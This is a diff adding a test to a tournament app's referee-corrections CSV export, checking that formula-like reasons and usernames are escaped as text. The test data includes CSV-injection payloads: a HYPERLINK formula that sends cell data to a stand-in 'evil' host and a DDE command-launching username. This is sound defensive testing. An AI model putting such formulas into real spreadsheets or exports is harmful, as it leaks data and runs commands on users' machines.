@@ -57,3 +57,18 @@ def test_the_csv_holds_who_when_why_before_after_and_the_score_change(client, dj
     assert "irregularity:  -> declarer" in first["changes"] and "won: true -> false" in first["changes"]
     assert rows[1]["kind"] == "void" and "voided: false -> true" in rows[1]["changes"]
     assert first["time"][:2] == "20" and "T" in first["time"]
+
+
+@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil/?"&A1;"x")', "+49 30 1234", "-2+3", "@SUM(A1)", "=1+1"])
+def test_a_formula_like_reason_or_username_is_text_in_the_csv(client, reason):
+    """Typed-in text never runs as a formula in Excel (tournaments.cells, as the league exports)."""
+    table = full_table(3)
+    tournament = table.series.tournament
+    referee = referee_of(tournament, "=cmd|' /C calc'!A0")
+    corrections.void_game(table.games.get(number=1).pk, expected_version=1, user=referee, reason=reason)
+    client.force_login(referee)
+    response = client.get(reverse("referees:corrections_csv", args=[tournament.pk]))
+    text = response.content.decode("utf-8").removeprefix("\ufeff")
+    (row,) = csv.DictReader(io.StringIO(text), delimiter=";")
+    assert row["reason"] == "'" + reason
+    assert row["by"] == "'=cmd|' /C calc'!A0"
